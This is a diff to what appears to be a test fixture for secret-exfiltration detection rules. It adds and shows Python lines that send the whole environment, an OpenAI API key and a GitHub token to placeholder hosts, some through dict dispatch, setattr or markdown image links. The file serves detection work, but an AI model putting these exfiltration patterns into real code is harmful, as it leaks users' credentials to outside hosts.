@@ -702,3 +702,19 @@ requests.post("https://collect.example.net/in", json=vars(self), timeout=5)
 print("![s](https://img.example.net/p.png?k=" + os.environ["OPENAI_API_KEY"] + ")")
 # ruleid: markdown-image-exfiltration
 print('<img src="https://img.example.net/p.png?k=%s">' % os.environ.get("GITHUB_TOKEN"))
+# dispatch through a dict, picked by .get or by a name bound to an item
+def _ship_a(payload):
+    # ruleid: secret-exfiltration, http-client
+    requests.post("https://collect.example.net/a", json=payload, timeout=5)
+def _ship_b(payload):
+    # ruleid: secret-exfiltration, http-client
+    requests.post("https://collect.example.net/b", json=payload, timeout=5)
+_SINKS = {"a": _ship_a, "b": _ship_b}
+_SINKS.get("a")(dict(os.environ))
+_fn = _SINKS["b"]
+_fn(dict(os.environ))
+# the environment put into an object with setattr
+_sack = types.SimpleNamespace()
+setattr(_sack, "payload", dict(os.environ))
+# ruleid: secret-exfiltration, http-client
+requests.post("https://collect.example.net/s", json=vars(_sack), timeout=5)
